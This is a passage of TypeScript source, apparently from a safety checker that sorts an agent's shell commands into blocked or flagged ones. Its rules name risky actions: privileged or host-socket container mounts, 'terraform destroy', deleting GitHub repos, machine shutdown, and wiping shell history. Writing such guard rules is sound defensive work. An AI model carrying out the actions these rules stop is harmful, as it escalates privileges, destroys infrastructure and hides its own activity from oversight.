    a.block("system_power", "`init 0/6` stops or restarts the machine");
  else a.grey("service_control", "`init` changes the run level");
  return null;
};
H.mount = (args, a) => {
  if (args.length === 0) return null;
  a.grey("mount", "`mount` changes the mounted filesystems");
  return null;
};
H.umount = (_args, a) => {
  a.grey("mount", "`umount` changes the mounted filesystems");
  return null;
};
H.history = (args, a) => {
  if (args.some((v) => v.s === "-c" || v.s === "-d" || v.s === "-w"))
    a.grey("history_edit", "`history -c/-d/-w` rewrites the shell history");
  return null;
};
H.set = () => null;
H.shopt = () => null;
H.alias = (args, a) => {
  // Defining an alias changes what later commands in a persistent agent shell run.
  if (args.some((v) => v.s.includes("=") || v.dyn))
    a.grey("alias_define", "`alias` redefines a command for later calls");
  return null;
};
H.ulimit = () => null;
H.umask = () => null;

function containerTool(args: Val[], a: Analysis, io: Io): StdinSource | null {
  const sub = args.find((v) => !v.s.startsWith("-"))?.s ?? "";
  const via = `\`${io.name} ${sub}\``;
  if (
    /^(ps|images|image-ls|logs|inspect|version|info|stats|top|port|diff|history|events|search|help)$/.test(
      sub,
    )
  )
    return null;
  if (
    sub === "compose" &&
    /^(ps|logs|config|ls|images|top|version|port)$/.test(
      args[args.findIndex((v) => v.s === "compose") + 1]?.s ?? "",
    )
  )
    return null;
  if (sub === "build" || sub === "buildx") {
    a.project(via);
    return null;
  }
  if (args.some((v) => v.s === "--privileged")) {
    a.block("privilege", `${via} --privileged gives the container control of the host`);
    return null;
  }
  if (
    args.some(
      (v, k) =>
        /^(-v|--volume)$/.test(v.s) &&
        /^\/(:|$)|^\/:|^\/(etc|root|var\/run\/docker\.sock)/.test(args[k + 1]?.s ?? ""),
    )
  ) {
    a.block("privilege", `${via} mounts the host's root, /etc or the docker socket into a container`);
    return null;
  }
  a.grey("container", `${via} runs or changes containers`);
  return null;
}
H.docker = containerTool;
H.podman = containerTool;
H.nerdctl = containerTool;

H.kubectl = (args, a) => {
  const sub = args.find((v) => !v.s.startsWith("-"))?.s ?? "";
  if (
    /^(get|describe|logs|explain|version|api-resources|api-versions|cluster-info|top|config|auth|diff|events|wait)$/.test(
      sub,
    )
  ) {
    if (
      sub === "config" &&
      !/^(view|get-contexts|current-context|get-clusters)$/.test(
        args[args.findIndex((v) => v.s === "config") + 1]?.s ?? "",
      )
    ) {
      a.grey("cluster_change", "`kubectl config` changes the cluster configuration");
    }
    return null;
  }
  a.grey("cluster_change", `\`kubectl ${sub}\` changes a cluster`);
  return null;
};
H.helm = (args, a) => {
  const sub = args[0]?.s ?? "";
  if (/^(list|ls|status|get|show|search|template|lint|version|history|env|dependency)$/.test(sub))
    return null;
  a.grey("cluster_change", `\`helm ${sub}\` changes a cluster`);
  return null;
};
H.terraform = (args, a) => {
  const sub = args.find((v) => !v.s.startsWith("-"))?.s ?? "";
  if (
    /^(plan|validate|fmt|show|output|version|providers|graph|console|state-list|init|get|test)$/.test(sub)
  ) {
    a.project(`\`terraform ${sub}\``);
    return null;
  }
  if (sub === "destroy") {
    a.block("infra_destroy", "`terraform destroy` deletes infrastructure");
    return null;
  }
  a.grey("infra_change", `\`terraform ${sub}\` changes real infrastructure`);
  return null;
};
H.tofu = H.terraform;

H.gh = (args, a) => {
  a.fx.readOnly = false;
  const [group, action] = [args[0]?.s ?? "", args[1]?.s ?? ""];
  if (group === "api") {
    const p = parseOpts(args.slice(1), [
      "-X",
      "--method",
      "-f",
      "-F",
      "--field",
      "--raw-field",
      "-H",
      "--header",
      "--input",
      "-q",
      "--jq",
      "-t",
      "--template",
      "--hostname",
      "--cache",
    ]);
    const method = optValue(p, "-X", "--method")?.s.toUpperCase();
    if ((method && method !== "GET") || has(p, "-f", "-F", "--field", "--raw-field", "--input")) {
      a.grey("remote_change", "`gh api` with a method or fields changes GitHub state");
    }
    return null;
  }
  if (
    /^(view|list|status|diff|checks|search|browse)$/.test(action) ||
    /^(status|search|browse|help|version|--version|auth-status)$/.test(group)
  )
    return null;
  if (group === "auth" && action === "status") return null;
  if (
    (group === "pr" && /^(create|comment|edit|ready|checkout|review)$/.test(action)) ||
    (group === "issue" && /^(create|comment|edit)$/.test(action)) ||
    (group === "run" && /^(watch|rerun|download)$/.test(action))
  ) {
    if (action === "checkout" || action === "download") a.project(`\`gh ${group} ${action}\``);
    return null;
  }
  if (group === "repo" && action === "clone") {
    const dest = args[3] ?? (args[2] ? lit(posix.basename(args[2].s)) : null);
    if (dest) a.write(dest, "write", "`gh repo clone`");
    return null;
  }
  if ((group === "repo" && action === "delete") || (group === "release" && action === "delete")) {
    a.block("remote_destroy", `\`gh ${group} ${action}\` deletes GitHub data`);
    return null;
  }
  a.grey("remote_change", `\`gh ${group} ${action}\` changes GitHub state`);
  return null;
};

// --- read-mostly tools with a writing mode ------------------------------------------------------

H.yq = (args, a) => {
  const p = parseOpts(args, ["-o", "--output-format", "-p", "--input-format", "--from-file", "--expression"]);
  if (has(p, "-i", "--inplace")) for (const f of p.positional.slice(1)) a.write(f, "write", "`yq -i`");
  return null;
};
H.tail = (args, a) => readerOutput("tail", args, a);
H.less = (args, a) => readerOutput("less", args, a);
H.date = (args, a) => {
  if (args.some((v) => v.s === "-s" || v.s.startsWith("--set")))
    a.grey("system_change", "`date -s` changes the system clock");
  return null;
};
H.hostname = (args, a) => {
  if (args.some((v) => !v.s.startsWith("-"))) a.grey("system_change", "`hostname NAME` renames the machine");
  return null;
};
H.open = (_args, a) => {
  a.grey("unknown_command", "`open` launches an application");
  return null;
};
H["xdg-open"] = H.open;
H.code = (args, a) => {
  if (args.some((v) => /^--(install|uninstall)-extension$/.test(v.s)))
    a.grey("install_global", "`code --install-extension` changes the editor");
  return null;
};

/** Quotes a literal for re-parsing by the analyser (env -S). */
function quoteForShell(s: string): string {
  return `'${s.replaceAll("'", "'\\''")}'`;
}
